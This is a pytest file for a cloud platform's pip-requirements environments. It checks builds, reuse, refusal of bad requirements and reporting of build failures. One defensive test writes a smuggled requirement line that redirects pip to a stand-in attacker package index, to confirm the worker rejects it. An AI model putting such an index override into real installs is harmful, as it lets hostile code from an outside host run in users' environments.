"""``_env``: jobs run in an environment built from pip requirements (a real package from
PyPI, built with uv by the worker, or by the simulator, on first use), in every mode.
"""

from __future__ import annotations

import sys

import pytest

pytestmark = pytest.mark.timeout(300)

PACKAGE = "inflection==0.5.1"  # small, pure Python, and not installed with the platform


def _inflect(word: str) -> tuple[str, str, str]:
    import inflection  # only in the environment

    return inflection.pluralize(word), inflection.__version__, sys.executable


def _interpreter(_: object = None) -> str:
    return sys.executable


def test_a_job_runs_in_its_environment(cloud, mode) -> None:  # type: ignore[no-untyped-def]
    name = cloud.environment.create("words", requirements=[PACKAGE], desc="for plurals")
    assert name == "words"
    (listed,) = cloud.environment.list_envs("words")
    assert listed["requirements"] == [PACKAGE] and listed["description"] == "for plurals"
    assert "words" in [e["name"] for e in cloud.environment.list_envs()]
    plural, version, interpreter = cloud.result(
        cloud.call(_inflect, "octopus", _env="words"), timeout=240
    )
    assert (plural, version) == ("octopi", "0.5.1")
    assert interpreter != sys.executable and "picloud" in interpreter
    # the same key's other jobs, and the worker's own, stay without it
    plain = cloud.call(_inflect, "cat")
    with pytest.raises(cloud.CloudException, match="No module named 'inflection'"):
        cloud.result(plain, timeout=60)
    # a second job reuses the build (and its executor): quick
    again = cloud.map(_inflect, ["person", "child"], _env="words")
    assert [r[0] for r in cloud.result(again, timeout=60)] == ["people", "children"]


def test_an_unknown_environment_is_refused_at_submit(cloud) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(ValueError, match="no environment named 'nowhere'"):
        cloud.call(_interpreter, _env="nowhere")
    with pytest.raises(ValueError, match=r"requirement '-e \.': pip options"):
        cloud.environment.create("bad", requirements=["-e ."])
    with pytest.raises(ValueError, match="cloudpickle is what the job process runs on"):
        cloud.environment.create("bad", requirements=["cloudpickle==2.0"])
    with pytest.raises(ValueError, match="is not valid"):
        cloud.environment.create("bad", requirements=["numpy=>1"])
    assert "bad" not in [e["name"] for e in cloud.environment.list_envs()]


def test_a_build_failure_is_a_job_error_with_the_build_log(cloud) -> None:  # type: ignore[no-untyped-def]
    cloud.environment.create("broken", requirements=["no-such-package-picloud-test==1.0"])
    jids = cloud.map(_interpreter, [None, None], _env="broken")
    for jid in jids:
        with pytest.raises(cloud.CloudException) as failed:
            cloud.result(jid, timeout=240)
        assert cloud.status(jid) == "error"
        text = str(failed.value)
        assert "environment 'broken'" in text and "no-such-package-picloud-test" in text
    cloud.environment.delete("broken")
    assert "broken" not in [e["name"] for e in cloud.environment.list_envs()]
    # fixed under the same name: the next job builds it (no failure is remembered for it)
    cloud.environment.create("broken", requirements=[PACKAGE])
    plural, _, interpreter = cloud.result(cloud.call(_inflect, "mouse", _env="broken"), 240)
    assert plural == "mice" and interpreter != sys.executable


def test_a_record_written_around_create_is_refused_on_the_worker(cloud) -> None:  # type: ignore[no-untyped-def]
    """A tenant can write its records through the store's API directly: the worker checks
    the requirements again and fails the jobs, naming the line, before uv sees them."""
    import json

    from picloud_compat.client.session import get_client

    client = get_client()
    sneaky = json.dumps(["--index-url https://attacker.example/simple", "six"])
    client.store.save_record(client.tenant, "env", "sneaky", {"requirements": sneaky}, b"", True)
    jid = cloud.call(_interpreter, _env="sneaky")
    with pytest.raises(cloud.CloudException, match="pip options are not accepted"):
        cloud.result(jid, timeout=120)
